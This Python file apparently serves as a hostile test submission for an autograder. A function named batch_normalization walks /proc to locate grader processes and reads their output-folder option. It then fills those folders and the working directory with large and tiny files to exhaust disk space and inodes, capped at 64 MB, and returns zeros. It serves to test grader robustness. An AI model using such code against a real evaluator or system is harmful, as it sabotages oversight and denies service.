"""Hostile: fills the disk.  Writes many files, and big ones, into the grader's output
folder and its own working folder until the disk is full (capped at 64 MB so that a test
on a real disk stays harmless).
"""

import json
import os
import signal
import sys

import numpy as np


def _argv(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return int(f.read().rsplit(b")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def graders():
    """The grading processes above this one, found through /proc as an attacker would."""
    found, pid, seen = [], os.getppid(), set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        argv = _argv(pid)
        if any(a.endswith(("/grade", "run_autograder", "grade_driver.py")) for a in argv[:3]):
            found.append((pid, argv))
        pid = _ppid(pid)
    return found


def family():
    """Every process under the topmost grader: the grader, its servers, classmates' workers."""
    top = graders()
    if not top:
        return []
    children = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            children.setdefault(_ppid(int(name)), []).append(int(name))
    out, stack = [], [top[-1][0]]
    while stack:
        pid = stack.pop()
        out.append(pid)
        stack.extend(children.get(pid, []))
    return [p for p in out if p != os.getpid()]


def option(*names):
    """Values of the grader's command-line options ``names``."""
    values = []
    for _, argv in graders():
        for i, a in enumerate(argv[:-1]):
            if a in names:
                values.append(argv[i + 1])
    return values


def write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


CAP = 64 << 20


def _fill(folder):
    written, n = 0, 0
    block = b"x" * (1 << 20)
    while written < CAP:
        try:
            with open(os.path.join(folder, f"fill-{os.getpid()}-{n}.bin"), "wb") as f:
                f.write(block)
            written += len(block)
            n += 1
        except OSError:
            break
    for k in range(10000):  # then small files, for the inodes
        if not write(os.path.join(folder, f"i-{os.getpid()}-{k}"), "x"):
            break


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    for out in option("--out"):
        _fill(out)
        _fill(os.path.join(out, "results"))
    _fill(os.getcwd())
    return np.zeros_like(X)
